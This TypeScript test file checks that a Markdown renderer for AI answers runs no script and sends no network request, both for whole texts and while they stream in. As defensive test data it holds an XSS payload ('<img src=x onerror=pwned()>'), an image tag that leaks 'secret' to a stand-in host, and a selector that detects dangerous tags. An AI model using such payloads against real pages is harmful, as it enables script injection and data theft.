/** Whatever an answer holds, nothing of it runs, and nothing is asked of another machine (reliability T1, T2). */
import assert from 'node:assert/strict';
import test from 'node:test';
import { eventually } from './support/eventually.ts';
import { beginningsOf, fetchTexts, scriptTexts, seededNumbers } from './support/hostile-texts.ts';
import { type OpenMarkdownPage, openMarkdownPage } from './support/open-markdown-page.ts';
import { noBrowser } from './support/running-app.ts';

/** Elements and attributes that an answer's Markdown can never become. */
const findForeign = `[
  ...document.querySelectorAll('#root :is(script, iframe, frame, object, embed, form, img, image, video, audio, source, link, meta, base, style:not([data-mantine-styles], [nonce]), a, use, animate, template, portal, marquee, details, select, textarea)'),
  ...[...document.querySelectorAll('#root *')].filter((element) =>
    element.getAttributeNames().some((name) => name.startsWith('on') || name === 'srcset' || name === 'ping' || name === 'src' || name === 'href')),
].map((element) => element.outerHTML.slice(0, 120))`;

const streamedBeginnings = 20;
const together = 51;

test('nothing in an answer runs, whole or at any point of its growing', { skip: noBrowser }, async (t) => {
  assert.ok(scriptTexts.length >= 300);
  const opened = await openMarkdownPage(t);
  const random = seededNumbers(7);
  for (let at = 0; at < scriptTexts.length; at += together) {
    const texts = scriptTexts.slice(at, at + together);
    await opened.show(texts);
    await assertHarmless(opened);
    const growing = texts.map((text) => beginningsOf(text, streamedBeginnings, random));
    for (let step = 0; step <= streamedBeginnings; step += 1) {
      await opened.show(
        growing.map((beginnings) => beginnings[step]!),
        true,
      );
      await assertHarmless(opened);
    }
  }
  assert.deepEqual([opened.requests, opened.faults], [[], []]);
});

test('one line of a megabyte is shown as text', { skip: noBrowser }, async (t) => {
  const opened = await openMarkdownPage(t);
  await opened.show([`<img src=x onerror=pwned()>${'a'.repeat(1_000_000)}`]);
  await assertHarmless(opened);
});

test('no shape of picture, link, style or tag asks another machine', { skip: noBrowser }, async (t) => {
  assert.ok(fetchTexts.length >= 60);
  const opened = await openMarkdownPage(t);
  const random = seededNumbers(11);
  for (const text of fetchTexts) {
    for (const beginning of beginningsOf(text, 5, random)) await opened.show([beginning], true);
    await opened.show([text]);
    await assertHarmless(opened);
  }
  await opened.page.waitForTimeout(500);
  assert.deepEqual([opened.requests, opened.faults], [[], []]);

  await t.test('a picture is a chip that names its host, in ASCII', async () => {
    await opened.show(['![plan](https://bücher.example/x.png)']);
    await opened.page.getByText('Picture at xn--bcher-kva.example, not loaded').waitFor();
  });
});

test('shown as HTML, the same texts run and ask (negative control)', { skip: noBrowser }, async (t) => {
  const opened = await openMarkdownPage(t);
  await opened.showAsHtml('<img src=x onerror=pwned()><img src="https://away.test/?d=secret">');
  await eventually(() =>
    assert.ok(opened.requests.length + opened.faults.length >= 2, String([opened.requests, opened.faults])),
  );
});

async function assertHarmless({ page }: OpenMarkdownPage): Promise<void> {
  assert.deepEqual(await page.evaluate(findForeign), []);
}
